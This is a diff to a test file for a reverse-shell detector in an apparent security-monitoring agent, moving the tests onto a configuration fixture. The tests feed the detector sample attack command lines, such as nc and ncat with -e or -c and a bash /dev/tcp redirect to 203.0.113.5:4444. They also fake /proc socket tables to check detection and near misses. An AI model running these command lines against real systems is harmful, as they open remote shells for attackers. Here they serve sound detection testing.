@@ -16,12 +16,7 @@ from defender_agent import config
 from defender_agent.agent import Agent
 from defender_agent.clock import ManualClock
 from defender_agent.detectors import reverse_shell
-from defender_agent.detectors.reverse_shell import (
-    DEFAULT_PATTERNS,
-    DEFAULT_SHELLS,
-    MAX_TREES,
-    ReverseShellDetector,
-)
+from defender_agent.detectors.reverse_shell import MAX_TREES, ReverseShellDetector
 from defender_agent.model import Record, rfc3339
 
 T0 = 1_795_000_000.0
@@ -31,24 +26,20 @@ HEADER = (
 )
 SOCK = "socket:[5001]"
 
-SECTION: dict[str, Any] = {
-    "enabled": None,
-    "proc": "/proc",
-    "shells": list(DEFAULT_SHELLS),
-    "patterns": list(DEFAULT_PATTERNS),
-    "allow_parents": [],
-    "max_socket_rows": 4096,
-    "quiet": 3600.0,
-    "update_every": 300.0,
-    "max_incidents": 256,
-}
 
+@pytest.fixture
+def detector(
+    detector_section: Callable[..., dict[str, Any]],
+) -> Callable[..., ReverseShellDetector]:
+    """A reverse-shell detector from the schema's defaults with `settings` over them,
+    reading `proc` (by default none)."""
 
-def detector(proc: Path | str = "/nonexistent", **settings: Any) -> ReverseShellDetector:
-    agent = Agent("t", ManualClock(T0 + 600))
-    return ReverseShellDetector(
-        agent.context("detectors", "reverse_shell"), proc=str(proc), **settings
-    )
+    def make(proc: Path | str = "/nonexistent", **settings: Any) -> ReverseShellDetector:
+        agent = Agent("t", ManualClock(T0 + 600))
+        section = detector_section("reverse_shell", proc=str(proc), **settings)
+        return reverse_shell.create(agent.context("detectors", "reverse_shell"), section, {})
+
+    return make
 
 
 def exec_event(
@@ -111,7 +102,7 @@ ALL_SOCKET = {0: SOCK, 1: SOCK, 2: SOCK}
 
 
 def test_a_shell_whose_stdio_is_an_outgoing_tcp_connection(
-    tmp_path: Path, proc_line: Callable[..., str]
+    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
 ) -> None:
     row = proc_line("192.0.2.10", 40000, "203.0.113.5", 4444, 1, 5001)
     fake_process(tmp_path, 4242, "/usr/bin/bash", ALL_SOCKET, {"tcp": [row]})
@@ -143,7 +134,7 @@ def test_a_shell_whose_stdio_is_an_outgoing_tcp_connection(
 
 
 def test_a_bind_shell_is_incoming_and_an_ipv4_peer_of_a_v6_socket_reads_as_ipv4(
-    tmp_path: Path, proc_line: Callable[..., str]
+    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
 ) -> None:
     rows = [
         proc_line("::", 31337, "::", 0, 0x0A, 77),  # the listener
@@ -159,7 +150,9 @@ def test_a_bind_shell_is_incoming_and_an_ipv4_peer_of_a_v6_socket_reads_as_ipv4(
     assert "from 198.51.100.7:51000" in alert["description"]
 
 
-def test_a_udp_socket_counts_too(tmp_path: Path, proc_line: Callable[..., str]) -> None:
+def test_a_udp_socket_counts_too(
+    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
+) -> None:
     row = proc_line("192.0.2.10", 40000, "203.0.113.5", 53, 1, 5001)
     fake_process(tmp_path, 4242, "/usr/bin/dash", {0: SOCK, 1: SOCK}, {"udp": [row]})
     (alert,) = feed(detector(tmp_path), exec_event(executable="/usr/bin/dash", cmdline="sh"))
@@ -167,7 +160,9 @@ def test_a_udp_socket_counts_too(tmp_path: Path, proc_line: Callable[..., str]) 
     assert alert["stdio_sockets"] == ["stdin", "stdout"]
 
 
-def test_near_miss_bash_started_by_sshd_on_a_pty(tmp_path: Path) -> None:
+def test_near_miss_bash_started_by_sshd_on_a_pty(
+    tmp_path: Path, detector: Callable[..., ReverseShellDetector]
+) -> None:
     pts = {0: "/dev/pts/0", 1: "/dev/pts/0", 2: "/dev/pts/0"}
     fake_process(tmp_path, 4242, "/usr/bin/bash", pts)
     det = detector(tmp_path)
@@ -179,7 +174,7 @@ def test_near_miss_bash_started_by_sshd_on_a_pty(tmp_path: Path) -> None:
 
 
 def test_near_miss_a_service_shell_writing_to_journald(
-    tmp_path: Path, proc_line: Callable[..., str]
+    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
 ) -> None:
     """systemd connects a service's stdout and stderr to journald with a Unix socket (and
     stdin too with StandardInput=socket of a unix listener): in no inet table."""
@@ -192,7 +187,7 @@ def test_near_miss_a_service_shell_writing_to_journald(
 
 
 def test_near_miss_an_inetd_style_daemon_that_is_not_a_shell(
-    tmp_path: Path, proc_line: Callable[..., str]
+    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
 ) -> None:
     row = proc_line("192.0.2.10", 69, "198.51.100.7", 50000, 1, 5001)
     fake_process(tmp_path, 4242, "/usr/sbin/in.tftpd", ALL_SOCKET, {"udp": [row]})
@@ -207,7 +202,7 @@ def test_near_miss_an_inetd_style_daemon_that_is_not_a_shell(
 
 
 def test_a_shell_service_under_an_allowed_inetd(
-    tmp_path: Path, proc_line: Callable[..., str]
+    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
 ) -> None:
     row = proc_line("192.0.2.10", 7777, "198.51.100.7", 50000, 1, 5001)
     fake_process(tmp_path, 4242, "/bin/sh", ALL_SOCKET, {"tcp": [row]})
@@ -221,7 +216,7 @@ def test_a_shell_service_under_an_allowed_inetd(
 
 
 def test_near_miss_a_listening_socket_on_stdin(
-    tmp_path: Path, proc_line: Callable[..., str]
+    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
 ) -> None:
     """inetd's `wait` services get the listening socket itself: no peer, no alert."""
     row = proc_line("0.0.0.0", 7777, "0.0.0.0", 0, 0x0A, 5001)
@@ -230,7 +225,7 @@ def test_near_miss_a_listening_socket_on_stdin(
 
 
 def test_stdin_alone_or_two_different_sockets_is_no_finding(
-    tmp_path: Path, proc_line: Callable[..., str]
+    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
 ) -> None:
     row = proc_line("192.0.2.10", 40000, "203.0.113.5", 4444, 1, 5001)
     fake_process(tmp_path, 4242, "/bin/sh", {0: SOCK, 1: "/dev/null"}, {"tcp": [row]})
@@ -240,7 +235,9 @@ def test_stdin_alone_or_two_different_sockets_is_no_finding(
     assert feed(det, exec_event(executable="/bin/sh", cmdline="sh", pid=4243)) == []
 
 
-def test_a_process_gone_before_the_look_leaves_its_command_line(tmp_path: Path) -> None:
+def test_a_process_gone_before_the_look_leaves_its_command_line(
+    tmp_path: Path, detector: Callable[..., ReverseShellDetector]
+) -> None:
     det = detector(tmp_path)
     assert feed(det, exec_event(cmdline="bash -i")) == []
     (alert,) = feed(
@@ -251,7 +248,9 @@ def test_a_process_gone_before_the_look_leaves_its_command_line(tmp_path: Path) 
     assert det.statistics()["gone-before-look"] == 2
 
 
-def test_a_reused_pid_is_not_looked_at(tmp_path: Path, proc_line: Callable[..., str]) -> None:
+def test_a_reused_pid_is_not_looked_at(
+    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
+) -> None:
     row = proc_line("192.0.2.10", 40000, "203.0.113.5", 4444, 1, 5001)
     fake_process(tmp_path, 4242, "/usr/sbin/sshd", ALL_SOCKET, {"tcp": [row]})
     det = detector(tmp_path)
@@ -259,7 +258,9 @@ def test_a_reused_pid_is_not_looked_at(tmp_path: Path, proc_line: Callable[..., 
     assert det.statistics()["pid-reused"] == 1
 
 
-def test_a_cut_socket_table_is_counted(tmp_path: Path, proc_line: Callable[..., str]) -> None:
+def test_a_cut_socket_table_is_counted(
+    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
+) -> None:
     rows = [proc_line("192.0.2.10", 1000 + n, "192.0.2.1", 80, 1, 100 + n) for n in range(20)]
     rows.append(proc_line("192.0.2.10", 40000, "203.0.113.5", 4444, 1, 5001))
     fake_process(tmp_path, 4242, "/usr/bin/bash", ALL_SOCKET, {"tcp": rows})
@@ -343,7 +344,9 @@ POSITIVE = [
 
 
 @pytest.mark.parametrize(("exe", "cmdline", "pattern"), POSITIVE, ids=[p[2] for p in POSITIVE])
-def test_reverse_shell_command_lines(exe: str, cmdline: str, pattern: str) -> None:
+def test_reverse_shell_command_lines(
+    exe: str, cmdline: str, pattern: str, detector: Callable[..., ReverseShellDetector]
+) -> None:
     (alert,) = feed(detector(), exec_event(executable=exe, cmdline=cmdline))
     assert pattern in alert["patterns"]
     assert alert["cmdline"] == cmdline and alert["executable"] == exe
@@ -371,14 +374,18 @@ NEAR_MISSES = [
 
 
 @pytest.mark.parametrize(("exe", "cmdline"), NEAR_MISSES, ids=[n[1][:40] for n in NEAR_MISSES])
-def test_near_misses_raise_nothing(exe: str, cmdline: str) -> None:
+def test_near_misses_raise_nothing(
+    exe: str, cmdline: str, detector: Callable[..., ReverseShellDetector]
+) -> None:
     assert feed(detector(), exec_event(executable=exe, cmdline=cmdline)) == []
 
 
 # --- incidents ------------------------------------------------------------------------
 
 
-def test_a_reverse_shell_cron_starts_again_is_one_incident_with_a_count() -> None:
+def test_a_reverse_shell_cron_starts_again_is_one_incident_with_a_count(
+    detector: Callable[..., ReverseShellDetector],
+) -> None:
     det = detector(update_every=300.0)
     cmd = "nc 203.0.113.5 4444 -e /bin/sh"
     (first,) = feed(det, exec_event(0, "/bin/nc", cmd, pid=100))
@@ -389,7 +396,9 @@ def test_a_reverse_shell_cron_starts_again_is_one_incident_with_a_count() -> Non
     assert update["first_seen"] == rfc3339(T0) and update["last_seen"] == rfc3339(T0 + 300)
 
 
-def test_quiet_ends_an_incident_on_event_time() -> None:
+def test_quiet_ends_an_incident_on_event_time(
+    detector: Callable[..., ReverseShellDetector],
+) -> None:
     det = detector(quiet=600.0)
     cmd = "ncat 203.0.113.5 4444 -c sh"
     (a,) = feed(det, exec_event(0, "/usr/bin/ncat", cmd, pid=100))
@@ -399,7 +408,9 @@ def test_quiet_ends_an_incident_on_event_time() -> None:
     assert b["id"] != a["id"] and b["count"] == 1 and "update" not in b
 
 
-def test_a_process_tree_is_one_incident(tmp_path: Path, proc_line: Callable[..., str]) -> None:
+def test_a_process_tree_is_one_incident(
+    tmp_path: Path, proc_line: Callable[..., str], detector: Callable[..., ReverseShellDetector]
+) -> None:
     """nc -e starts /bin/sh on the connection: the shell's socket finding joins nc's."""
     row = proc_line("192.0.2.10", 40000, "203.0.113.5", 4444, 1, 5001)
     fake_process(tmp_path, 101, "/bin/dash", ALL_SOCKET, {"tcp": [row]})
@@ -413,7 +424,7 @@ def test_a_process_tree_is_one_incident(tmp_path: Path, proc_line: Callable[...,
 # --- hostile input ------------------------------------------------------------------------
 
 
-def test_hostile_command_lines_are_capped() -> None:
+def test_hostile_command_lines_are_capped(detector: Callable[..., ReverseShellDetector]) -> None:
     det = detector()
     late = "A" * 1_000_000 + " bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
     assert feed(det, exec_event(cmdline=late)) == []  # beyond the 4096 characters looked at
@@ -430,7 +441,9 @@ def test_hostile_command_lines_are_capped() -> None:
     assert feed(det, Record("event", {"event": "process-exec", "pid": "x"}, T0)) == []
 
 
-def test_many_distinct_incidents_stay_bounded() -> None:
+def test_many_distinct_incidents_stay_bounded(
+    detector: Callable[..., ReverseShellDetector],
+) -> None:
     det = detector(max_incidents=8)
     for n in range(MAX_TREES + 50):
         feed(det, exec_event(n, "/bin/nc", f"nc 203.0.113.{n % 250} {n} -e sh", pid=1000 + n))
@@ -442,11 +455,15 @@ def test_many_distinct_incidents_stay_bounded() -> None:
 # --- configuration ----------------------------------------------------------------------
 
 
-def test_create_and_describe_from_a_section(tmp_path: Path) -> None:
+def test_create_and_describe_from_a_section(
+    tmp_path: Path, detector_section: Callable[..., dict[str, Any]]
+) -> None:
     agent = Agent("t", ManualClock(T0))
-    det = reverse_shell.create(agent.context("detectors", "reverse_shell"), dict(SECTION), {})
+    det = reverse_shell.create(
+        agent.context("detectors", "reverse_shell"), detector_section("reverse_shell"), {}
+    )
     assert det.name == "reverse_shell" and det.proc == "/proc"
-    lines = reverse_shell.describe(dict(SECTION))
+    lines = reverse_shell.describe(detector_section("reverse_shell"))
     assert any("12 patterns" in line for line in lines)
     assert det.save_state() == {} and det.statistics()["execs"] == 0
 
@@ -462,14 +479,17 @@ def test_create_and_describe_from_a_section(tmp_path: Path) -> None:
         ("x:", "no terms"),
     ],
 )
-def test_a_bad_pattern_is_a_configuration_error(entry: str, why: str) -> None:
-    section = {**SECTION, "patterns": [*DEFAULT_PATTERNS, entry]}
+def test_a_bad_pattern_is_a_configuration_error(
+    entry: str, why: str, detector_section: Callable[..., dict[str, Any]]
+) -> None:
+    section = detector_section("reverse_shell")
+    section["patterns"].append(entry)
     with pytest.raises(config.ConfigError, match=why) as info:
         reverse_shell.describe(section)
     assert "detectors.reverse_shell.patterns: pattern 13" in str(info.value)
 
 
-def test_patterns_are_data_with_escapes() -> None:
+def test_patterns_are_data_with_escapes(detector: Callable[..., ReverseShellDetector]) -> None:
     det = detector(patterns=["tool: prog=mytool has=--pipe%20into%2Csh arg=-x"])
     assert feed(det, exec_event(executable="/opt/mytool", cmdline="mytool -x --pipe  into,sh"))
     assert not feed(det, exec_event(executable="/opt/mytool", cmdline="mytool --pipe into,sh"))
@@ -481,7 +501,8 @@ LIVE = r"""
 import fcntl, json, os, socket, struct, subprocess
 from defender_agent.agent import Agent
 from defender_agent.clock import ManualClock
-from defender_agent.detectors.reverse_shell import ReverseShellDetector
+from defender_agent import config
+from defender_agent.detectors import reverse_shell
 from defender_agent.model import Record
 
 # a fresh network namespace has its loopback down: SIOCGIFFLAGS, then SIOCSIFFLAGS | IFF_UP
@@ -499,7 +520,11 @@ shell = subprocess.Popen(["sh"], stdin=client, stdout=client, stderr=client)
 left, right = socket.socketpair()  # a Unix socket, as journald gives services
 quiet = subprocess.Popen(["sh"], stdin=left, stdout=left, stderr=left)
 
-det = ReverseShellDetector(Agent("live", ManualClock(0)).context("detectors", "reverse_shell"))
+det = reverse_shell.create(
+    Agent("live", ManualClock(0)).context("detectors", "reverse_shell"),
+    config.defaults()["detectors.reverse_shell"],
+    {},
+)
 
 def event(pid):
     exe = os.readlink(f"/proc/{pid}/exe")
@@ -563,7 +588,9 @@ BENIGN = [
 ]
 
 
-def test_a_benign_workload_raises_nothing(tmp_path: Path) -> None:
+def test_a_benign_workload_raises_nothing(
+    tmp_path: Path, detector: Callable[..., ReverseShellDetector]
+) -> None:
     """With the shells on a pty (the admin) or pipes and journald's Unix socket."""
     pts = {0: "/dev/pts/0", 1: "/dev/pts/0", 2: "/dev/pts/0"}
     journal = {0: "/dev/null", 1: "socket:[77]", 2: "socket:[77]"}
